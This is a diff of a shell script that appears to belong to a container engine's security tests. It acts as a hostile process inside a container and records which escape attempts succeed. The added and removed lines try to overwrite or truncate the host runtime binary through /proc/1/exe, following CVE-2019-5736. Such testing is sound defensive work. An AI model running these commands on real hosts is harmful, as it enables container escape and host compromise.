@@ -2,27 +2,21 @@
 # attacks-inside.sh: a hostile process in a container: runs there as its command, prints a line for each attack,
 # `TAG NAME: ANSWER`, and judges nothing: test-attack-inside.sh does. What needs a system call of its own is in attack.c.
 #   sh -c "(ls /proc/1/fd >/tmp/fds); exec attacks-inside.sh all"    everything from a shell, then everything from attack.c
-#   attacks-inside.sh curl   as the `curl` of an image: the engine, run inside by /proc/self/exe, calls it
+#   attacks-inside.sh exe    at /proc/1/exe, while that is not yet the command (by `attack into`)
 # shellcheck shell=dash
 export PATH=/bin:/sbin:/usr/bin:/usr/sbin
 attack=/attack/attack
 
-if [ "${0##*/}" = curl ]; then
-    # The engine waits for us: it is our parent, and pid 1 of the container.
-    {
-        $attack exe 1 2>&1
-        # The file itself, by what a shell has: CVE-2019-5736 as it was published.
-        for exe in /proc/1/exe "/proc/$PPID/exe"; do
-            (exec 9<"$exe" && cat /bin/busybox >/proc/self/fd/9) 2>/dev/null && echo 'exe cat >/proc/self/fd/9: REACHED'
-            cp /bin/busybox "$exe" 2>/dev/null && echo 'exe cp: REACHED'
-            truncate -s 0 "$exe" 2>/dev/null && echo 'exe truncate -s 0: REACHED'
-            chmod 777 "$exe" 2>/dev/null && echo 'exe chmod 777: REACHED'
-            chown 1 "$exe" 2>/dev/null && echo 'exe chown 1: REACHED'
-            touch -c -d @5 "$exe" 2>/dev/null && echo 'exe touch: REACHED'
-        done
-        echo 'exe end: harmless'
-    } >/answers/answers
-    exit 22
+if [ "$1" = exe ]; then
+    $attack exe 1 2>&1
+    # By what a shell has: CVE-2019-5736 as it was published. (chmod, chown and touch: attack.c knows what they mean.)
+    exe=/proc/1/exe
+    (exec 9<"$exe" && cat /bin/busybox >/proc/self/fd/9) 2>/dev/null && echo 'exe cat >/proc/self/fd/9: REACHED'
+    (exec 9<>"$exe") 2>/dev/null && echo 'exe <>: REACHED'
+    cp /bin/busybox "$exe" 2>/dev/null && echo 'exe cp: REACHED'
+    truncate -s 0 "$exe" 2>/dev/null && echo 'exe truncate -s 0: REACHED'
+    echo 'exe end: harmless'
+    exit
 fi
 
 answer() { # TAG NAME REACHED?
